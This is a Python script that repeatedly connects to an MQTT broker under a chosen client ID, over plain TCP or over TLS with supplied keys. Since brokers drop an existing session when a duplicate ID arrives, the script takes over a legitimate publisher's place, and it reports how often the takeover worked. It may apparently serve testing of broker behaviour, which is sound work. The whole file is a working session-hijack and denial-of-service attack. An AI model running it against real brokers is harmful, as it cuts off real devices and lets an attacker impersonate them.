"""Takes a publisher's place at an MQTT broker: mqtt.py BROKER CLIENT_ID [KEYS].

A broker that gets a second connection with the same client id ends the first. With a folder of keys it speaks TLS.
"""

import signal
import socket
import ssl
import struct
import sys
import time

ATTEMPTS = 20


def connect(broker, keys):
    if keys is None:
        return socket.create_connection((broker, 1883), timeout=1)
    context = ssl.create_default_context(cafile=f"{keys}/ca.pem")
    context.check_hostname = False
    context.load_cert_chain(f"{keys}/certificate.pem", f"{keys}/key.pem")
    return context.wrap_socket(socket.create_connection((broker, 8883), timeout=1))


def main():
    broker, client_id, *keys = sys.argv[1:]
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    text = client_id.encode()
    content = b"\x00\x04MQTT\x04\x02" + struct.pack(">HH", 60, len(text)) + text
    time.sleep(1.5)
    accepted, why = 0, ""
    for _ in range(ATTEMPTS):
        try:
            with connect(broker, keys[0] if keys else None) as connection:
                connection.sendall(bytes([0x10, len(content)]) + content)
                answer = connection.recv(4)
                accepted += answer[:1] == b"\x20" and answer[3] == 0
                time.sleep(0.1)
        except OSError as error:
            why = f", {error}"
    print(f"taken over {accepted} of {ATTEMPTS} times{why}")


if __name__ == "__main__":
    main()
